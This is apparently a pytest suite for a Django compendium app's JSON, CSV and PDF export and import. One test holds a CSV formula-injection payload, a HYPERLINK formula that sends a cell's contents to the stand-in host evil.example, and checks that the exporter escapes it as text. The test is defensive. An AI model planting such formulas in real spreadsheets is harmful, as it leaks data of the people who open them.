import csv
import io
import json

import pytest
from django.core.management import call_command
from django.db import IntegrityError
from django.urls import reverse
from pypdf import PdfReader

from erasmi.compendium.exports import read_csv, read_json
from erasmi.compendium.models import Practice
from erasmi.compendium.services import import_profiles
from erasmi.compendium.tests.factories import make_practice


def _content(practice):
    from erasmi.compendium.exports import practice_as_dict

    data = practice_as_dict(practice)
    for key in ("slug", "status", "source", "is_example"):
        data.pop(key)
    return data


def test_json_export_has_every_field_and_language(client, erfurt):
    response = client.get(reverse("compendium:export", args=["json"]))
    assert response["Content-Type"].startswith("application/json")
    practice = json.loads(b"".join(response.streaming_content))["practices"][0]
    assert practice["founding_year"] == 2004
    assert practice["country"] == "germany"
    assert set(practice["translations"]) == {"de", "tr"}
    assert len(practice["translations"]["de"]["success_factors"]) == 6


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_export_is_read_back_by_the_importer_without_loss(erfurt, tmp_path, fmt):
    before = _content(Practice.objects.get())
    path = tmp_path / f"compendium.{fmt}"
    call_command("export_practices", format=fmt, output=str(path))
    Practice.objects.all().delete()
    call_command("import_practice", str(path), verbosity=0)
    assert _content(Practice.objects.get()) == before


def test_csv_opens_as_a_table_with_one_row_per_language(erfurt, tmp_path):
    path = tmp_path / "compendium.csv"
    call_command("export_practices", format="csv", output=str(path))
    rows = list(csv.DictReader(io.StringIO(path.read_text())))
    assert [row["language"] for row in rows] == ["de", "tr"]
    assert rows[0]["resources"].split("\n")[1] == "Eine von der Stadt Erfurt finanzierte Netzwerkkoordination"


def test_bad_json_is_refused_with_its_line(db):
    from erasmi.compendium.importers import ProfileError

    with pytest.raises(ProfileError, match=r"x.json, line 2: invalid JSON"):
        read_json('{"format": "erasmi-compendium",\n "practices": [}', "x.json")


def test_csv_without_the_name_column_is_refused(db):
    from erasmi.compendium.importers import ProfileError

    with pytest.raises(ProfileError, match="lacks the columns: name"):
        read_csv("language,slug\nde,x\n", "x.csv")


def test_pdf_compendium_has_cover_contents_and_one_section_per_practice(erfurt, tmp_path):
    make_practice("Harbour Welcome Network")
    path = tmp_path / "compendium-tr.pdf"
    call_command("export_practices", format="pdf", language="tr", output=str(path))
    reader = PdfReader(str(path))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "ERASMI" in reader.pages[0].extract_text()
    assert "İçindekiler" in reader.pages[1].extract_text() or "Contents" in reader.pages[1].extract_text()
    assert "Devlet entegrasyon ağı" in text  # the Turkish version of Erfurt
    assert "Harbour Welcome Network" in text  # no Turkish version: falls back to English
    assert [item.title for item in reader.outline] == [
        "Harbour Welcome Network",
        "Netzwerk für Integration der Landeshauptstadt Erfurt (Eyalet başkenti Erfurt'un entegrasyon ağı)",
    ]


def test_pdf_download_from_the_page(client, erfurt):
    response = client.get(reverse("compendium:export", args=["pdf"]), {"language": "de"})
    assert response["Content-Type"] == "application/pdf"
    assert b"".join(response.streaming_content).startswith(b"%PDF")
    assert "erasmi-compendium-de.pdf" in response["Content-Disposition"]


def test_import_of_profiles_writes_nothing_when_one_fails(db):
    from erasmi.compendium.importers import ParsedProfile

    good = ParsedProfile(path="a", language="en", values={"name": "Good Network", "founding_year": 2000})
    bad = ParsedProfile(path="b", language="en", values={"name": "Bad Network", "founding_year": -5})
    with pytest.raises(IntegrityError):
        import_profiles([good, bad])
    assert Practice.objects.count() == 0


def test_a_download_is_generated_once_per_change_of_the_compendium(client, erfurt, settings):
    url = reverse("compendium:export", args=["json"])
    first = b"".join(client.get(url).streaming_content)
    files = list((settings.ERASMI_CACHE_DIR / "exports").iterdir())
    assert len(files) == 1
    assert b"".join(client.get(url).streaming_content) == first
    make_practice("Harbour Welcome Network")
    third = b"".join(client.get(url).streaming_content)
    assert b"Harbour Welcome Network" in third
    assert len(list((settings.ERASMI_CACHE_DIR / "exports").iterdir())) == 1  # the old file is gone


def test_csv_writes_formulas_as_text_and_reads_them_back_unchanged(client, db, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    make_practice(
        formula,
        location="+49 Erfurt",
        short_description="-1+1 was all it took",
        success_factors=["@SUM(1)", "Trust"],
        members="'=1+1 typed with an apostrophe",
    )
    before = _content(Practice.objects.get())
    response = client.get(reverse("compendium:export", args=["csv"]))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["name"] == "'" + formula
    assert rows[0]["location"] == "'+49 Erfurt"
    assert rows[0]["short_description"] == "'-1+1 was all it took"
    assert rows[0]["success_factors"] == "'@SUM(1)\nTrust"
    assert rows[0]["members"] == "''=1+1 typed with an apostrophe"
    path = tmp_path / "compendium.csv"
    call_command("export_practices", format="csv", output=str(path))
    Practice.objects.all().delete()
    call_command("import_practice", str(path), verbosity=0)
    assert _content(Practice.objects.get()) == before


def test_the_downloads_of_a_search_hold_only_the_practices_found(client, db):
    make_practice("Harbour Welcome Network", short_description="Port city newcomers")
    make_practice("Mountain Housing Alliance", short_description="Housing in the valleys")
    page = client.get(reverse("compendium:list"), {"q": "valleys"})
    for fmt in ("json", "csv"):
        assert f'{reverse("compendium:export", args=[fmt])}?q=valleys"' in page.text
    found = json.loads(client.get(reverse("compendium:export", args=["json"]), {"q": "valleys"}).content)
    assert [p["translations"]["en"]["name"] for p in found["practices"]] == ["Mountain Housing Alliance"]
    rows = list(
        csv.DictReader(
            io.StringIO(client.get(reverse("compendium:export", args=["csv"]), {"q": "valleys"}).content.decode())
        )
    )
    assert [row["name"] for row in rows] == ["Mountain Housing Alliance"]
    pdf = client.get(reverse("compendium:export", args=["pdf"]), {"q": "valleys", "language": "en"})
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
    assert "Mountain Housing Alliance" in text and "Harbour Welcome Network" not in text
    everything = json.loads(b"".join(client.get(reverse("compendium:export", args=["json"])).streaming_content))
    assert len(everything["practices"]) == 2
